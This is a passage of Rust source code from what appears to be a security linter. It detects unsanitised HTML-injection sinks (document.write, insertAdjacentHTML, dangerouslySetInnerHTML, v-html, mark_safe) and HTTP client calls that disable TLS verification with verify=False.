                ("document.write(", "document.write"),
                ("document.writeln(", "document.writeln"),
            ] {
                if let Some(p) = lx.find_code(text, name).next()
                    && dynamic_value(p + name.len())
                {
                    return Some(what);
                }
            }
            if let Some(p) = lx.find_code(text, "insertAdjacentHTML(").next() {
                let args = call_args(text, p + "insertAdjacentHTML(".len() - 1);
                if let Some((_, second)) = args.split_once(',') {
                    let at =
                        text.len() - text[p..].len() + "insertAdjacentHTML(".len() + args.len()
                            - second.len();
                    if dynamic_value(at) {
                        return Some("insertAdjacentHTML");
                    }
                }
            }
            if let Some(p) = text.find("__html:") {
                let at = p + "__html:".len();
                let value = text[at..].trim_start();
                if text.contains("dangerouslySetInnerHTML")
                    && !sanitised(value)
                    && value.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                {
                    return Some("dangerouslySetInnerHTML");
                }
            }
            if let Some(p) = text.find("v-html=\"") {
                let value = &text[p + 8..];
                if !sanitised(value) && !value.starts_with('\'') && !value.starts_with('"') {
                    return Some("v-html");
                }
            }
            None
        }
        Lang::Python => {
            let p = lx
                .find_code(text, "mark_safe(")
                .find(|&p| p == 0 || !is_ident_byte(text.as_bytes()[p - 1]))?;
            dynamic_first_arg(lang, line, p + "mark_safe(".len()).then_some("mark_safe")
        }
        _ => None,
    }
}

/// Is the `verify=False` at `at` a keyword argument of an HTTP client call (`requests.get`,
/// `session.post`, `httpx.Client`, …) rather than of some helper (`make_context(verify=False)`)?
fn verify_goes_to_http(text: &str, at: usize) -> bool {
    let b = text.as_bytes();
    let mut depth = 0i32;
    let mut open = None;
    for i in (0..at).rev() {
        match b[i] {
            b')' => depth += 1,
            b'(' if depth == 0 => {
                open = Some(i);
                break;
            }
            b'(' => depth -= 1,
            _ => {}
        }
    }
    // The call opened on an earlier line: its name is not visible, assume a client.
    let Some(open) = open else {
        return true;
    };
    let callee = text[..open]
        .rsplit(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
        .next()
        .unwrap_or("");
    let method = callee.rsplit('.').next().unwrap_or("");
    let receiver = callee.split('.').next().unwrap_or("").to_ascii_lowercase();
    matches!(
        method,
        "get"
            | "post"
            | "put"
            | "patch"
            | "delete"
            | "head"
            | "options"
            | "request"
            | "send"
            | "stream"
            | "Client"
            | "AsyncClient"
            | "Session"
            | "urlopen"
            | "ClientSession"
    ) || ["requests", "httpx", "session", "client", "aiohttp", "http"]
        .iter()
        .any(|r| receiver.contains(r))
}
